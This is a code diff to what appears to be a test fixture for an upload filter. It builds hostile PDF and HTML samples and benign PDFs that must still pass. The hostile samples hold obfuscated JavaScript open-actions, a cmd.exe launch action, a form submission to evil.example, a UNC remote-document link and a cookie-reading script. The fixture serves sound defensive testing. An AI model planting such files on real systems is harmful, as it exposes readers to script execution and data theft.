@@ -1,6 +1,7 @@
 // A hundred files that people with bad intentions send, each with the field that it is sent to.
 import { deflateSync, gzipSync } from 'node:zlib';
 import sharp from 'sharp';
+import { packedPdf, pdfWith, rewritten } from './pdf.ts';
 import { bomb, jpeg, pdf, png, withChunk, withSegment } from './samples.ts';
 
 export interface Hostile {
@@ -8,6 +9,8 @@ export interface Hostile {
   readonly field: 'picture' | 'document';
   readonly name: string;
   readonly bytes: Buffer;
+  /** What it is refused for. */
+  readonly code?: string;
 }
 
 const HTML = '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>';
@@ -92,17 +95,50 @@ async function pictures(): Promise<Omit<Hostile, 'field'>[]> {
   return Object.entries(made).map(([what, [name, bytes]]) => ({ what, name, bytes }));
 }
 
-function documents(): Omit<Hostile, 'field'>[] {
+const SCRIPT = '<< /S /JavaScript /JS (app.alert(1)) >>';
+const hex = (bytes: Buffer): Buffer => raw(`${bytes.toString('hex')}>`);
+const action = (object: string) => pdfWith({ catalog: `/OpenAction ${object}` });
+const link = (object: string) =>
+  pdfWith({ page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${object} >>]` });
+
+/** Sound in every other way: each does something, and is refused for that. */
+const ACTIVE: Readonly<Record<string, Buffer>> = {
+  'runs a script': action(SCRIPT),
+  'runs a script by another spelling': action('<< /S /J#61vaScript /J#53 (app.alert(1)) >>'),
+  'runs a script in hex': action('<< /S /JavaScript /JS <6170702e616c657274283129> >>'),
+  'runs a script of another object': pdfWith({ catalog: '/OpenAction << /S 4 0 R >>', objects: ['/JavaScript'] }),
+  'runs a script when a page opens': pdfWith({ page: `/AA << /O ${SCRIPT} >>` }),
+  'runs a named script': pdfWith({ catalog: `/Names << /JavaScript << /Names [(a) ${SCRIPT}] >> >>` }),
+  'hides its script': packedPdf([{ object: SCRIPT }]),
+  'hides its script behind two filters': packedPdf([
+    {
+      object: SCRIPT,
+      dictionary: '/Filter [/ASCIIHexDecode /FlateDecode]',
+      pack: (bytes) => hex(deflateSync(bytes)),
+    },
+  ]),
+  'hides its script in plain hex': packedPdf([{ object: SCRIPT, dictionary: '/Filter /ASCIIHexDecode', pack: hex }]),
+  'hides its script behind a filter of another spelling': packedPdf([
+    { object: SCRIPT, dictionary: '/Filter /#46late#44ecode' },
+  ]),
+  'hides its script behind a long dictionary': packedPdf([
+    { object: SCRIPT, dictionary: `/X (${'x'.repeat(5_000)}) /Filter /FlateDecode` },
+  ]),
+  'starts a program': action('<< /S /Launch /F (cmd.exe) >>'),
+  'sends its form': link('<< /S /SubmitForm /F (https://evil.example) >>'),
+  'fetches the data of its form': link('<< /S /ImportData /F (data.fdf) >>'),
+  'opens another document': link('<< /S /GoToR /F (\\\\\\\\evil\\\\a.pdf) /D [0 /Fit] >>'),
+  'opens a document in it': link('<< /S /GoToE /T << /R /C >> >>'),
+  'links to a script': link('<< /S /URI /URI (java script:alert\\(1\\)) >>'),
+  'plays a film': pdfWith({ page: '/Annots [<< /Type /Annot /Subtype /RichMedia /RichMediaContent << >> >>]' }),
+  'holds a file': pdfWith({ catalog: '/Names << /EmbeddedFiles << /Names [] >> >>' }),
+  'holds a form of its own language': pdfWith({ catalog: '/AcroForm << /Fields [] /XFA (x) >>' }),
+  'takes its bytes from elsewhere': pdfWith({ objects: ['<< /Length 0 /F (evil.bin) >>\nstream\n\nendstream'] }),
+};
+
+async function documents(): Promise<Omit<Hostile, 'field'>[]> {
   const text = pdf().toString('latin1');
-  const withObject = (object: string) => raw(text.replace('/Type /Catalog', `/Type /Catalog ${object}`));
-  const packed = deflateSync('1 0 << /S /JavaScript /JS (app.alert(1)) >>');
-  const stream = `9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`;
   const made: Readonly<Record<string, Buffer>> = {
-    'runs a script': withObject('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'),
-    'runs a script by another spelling': withObject('/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>'),
-    'starts a program': withObject('/OpenAction << /S /Launch /F (cmd.exe) >>'),
-    'plays a film': withObject('/RichMedia << >>'),
-    'hides its script': raw(text.replace('xref', `${stream}${packed.toString('latin1')}\nendstream\nendobj\nxref`)),
     'is a page too': raw(`${HTML}${text}`),
     'starts as a page': raw(text.replace('%PDF-1.4\n', `%PDF-1.4\n%${HTML}\n`)),
     'ends as a page': raw(`${text}${HTML}`),
@@ -115,8 +151,50 @@ function documents(): Omit<Hostile, 'field'>[] {
     'is only a header': raw('%PDF-1.7'),
     'is html with a header': raw(`%PDF-1.4 ${HTML} %%EOF`),
     'is PostScript': raw('%!PS-Adobe-3.0\n(evil) run'),
+    'has objects where its table names none': raw(text.replace('1 0 obj', ' 1 0 obj')),
+    'says twice what it starts': action(`<< /S /GoTo /D [3 0 R /Fit] /S /GoTo >>`),
+    'unpacks to nothing whole': packedPdf([{ object: SCRIPT, pack: (bytes) => deflateSync(bytes).subarray(0, 20) }]),
+    'has a filter that nobody knows': packedPdf([{ object: SCRIPT, dictionary: '/Filter /Own' }]),
+    'is deep': pdfWith({ objects: ['['.repeat(50_000) + ']'.repeat(50_000)] }),
   };
-  return Object.entries(made).map(([what, bytes]) => ({ what, name: 'document.pdf', bytes }));
+  const locked = { 'asks for a password': await rewritten(pdf(), '--encrypt', 'user', 'owner', '256', '--') };
+  const rewrittenActive = {
+    'hides its script under a password': await rewritten(action(SCRIPT), '--encrypt', '', 'owner', '256', '--'),
+    'hides its script in a file for slow networks': await rewritten(action(SCRIPT), '--linearize'),
+  };
+  const all = (files: typeof made, code?: string) =>
+    Object.entries(files).map(([what, bytes]) => ({ what, name: 'document.pdf', bytes, code }));
+  return [...all(made), ...all(locked, 'fileLocked'), ...all({ ...ACTIVE, ...rewrittenActive }, 'fileActive')];
+}
+
+/** What people's programs and printers write, and must go on taking. */
+export async function honestDocuments(): Promise<Readonly<Record<string, Buffer>>> {
+  const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
+  const content = 'BT /F1 12 Tf 50 700 Td (Contract) Tj ET';
+  const printed = pdfWith({
+    catalog: '/OpenAction [3 0 R /Fit] /PageMode /UseNone',
+    page: '/Contents 4 0 R /Resources << /Font << /F1 5 0 R >> /ExtGState << /G << /BM /Screen >> >> >>',
+    objects: [`<< /Length 6 0 R >>\nstream\n${content}\nendstream`, font, String(content.length)],
+  });
+  return {
+    'our own': pdf(),
+    printed,
+    'with links': pdfWith({
+      page: `/Annots [
+        << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://scoop.example/a?b=javascript:1) >> >>
+        << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (mailto:ada@scoop.example) >> >>
+        << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D [3 0 R /Fit] >> >>]`,
+    }),
+    'with a form': pdfWith({
+      catalog: '/AcroForm << /Fields [4 0 R] /NeedAppearances true >>',
+      page: '/Annots [4 0 R]',
+      objects: ['<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [0 0 99 9] /V (JavaScript /JS) >>'],
+    }),
+    'packed in streams': await rewritten(printed, '--object-streams=generate'),
+    'for slow networks': await rewritten(printed, '--linearize'),
+    'for slow networks and packed': await rewritten(printed, '--linearize', '--object-streams=generate'),
+    'without the right to print': await rewritten(printed, '--encrypt', '', 'owner', '256', '--print=none', '--'),
+  };
 }
 
 const NAMES: readonly string[] = [
@@ -161,7 +239,7 @@ export async function hostileFiles(): Promise<Hostile[]> {
   return [
     ...disguised,
     ...(await pictures()).map((file): Hostile => ({ ...file, field: 'picture' })),
-    ...documents().map((file): Hostile => ({ ...file, field: 'document' })),
+    ...(await documents()).map((file): Hostile => ({ ...file, field: 'document' })),
     ...NAMES.map((name): Hostile => ({ what: `named ${name.slice(0, 40)}`, field: 'picture', name, bytes: honest })),
   ];
 }
